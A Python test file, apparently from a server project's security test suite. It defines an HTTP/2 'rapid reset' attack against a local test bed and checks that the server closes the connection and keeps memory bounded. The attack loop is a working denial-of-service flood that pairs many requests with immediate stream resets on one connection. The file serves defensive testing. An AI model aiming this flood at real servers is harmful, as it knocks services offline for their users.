"""Attacks over HTTP/2."""
import asyncio

import wire
from harness import attack


@attack(promise="a client that resets what it asks for is sent away (rapid reset)", where="docs/operations.md", peers=("nginx", "haproxy"))
def rapid_reset(bed):
    bed.start()
    count = bed.scale(200_000, 5_000)

    async def attacker():
        reader, writer = await wire.open_h2(bed.tls_port, tls=True)
        bed.sent(0, connections=1)
        said = asyncio.create_task(goodbye(reader))
        for number in range(count):
            stream = 2 * number + 1
            both = wire.request(stream, f"/bytes/1000/reset-{number}", scheme="https") + wire.frame(wire.RST_STREAM, 0, stream, b"\0\0\0\x08")
            writer.write(both)
            bed.sent(len(both))
            if number % 100 == 99:
                await asyncio.sleep(0)
                if said.done():
                    break
        async with asyncio.timeout(20):
            return await said

    async def goodbye(reader):
        """Until the connection ends, with a GOAWAY or before it could be read."""
        while await wire.read_frame(reader) is not None:
            bed.exchanged()
        bed.exchanged()
        return True

    try:
        was_sent_away = bed.run(attacker())
    except TimeoutError:
        was_sent_away = False
    bed.note(f"{len(bed.origin.requests)} requests reached the origin")
    bed.end_victim()
    bed.expect(was_sent_away, "it was never sent away")
    bed.expect_memory(connections=1)
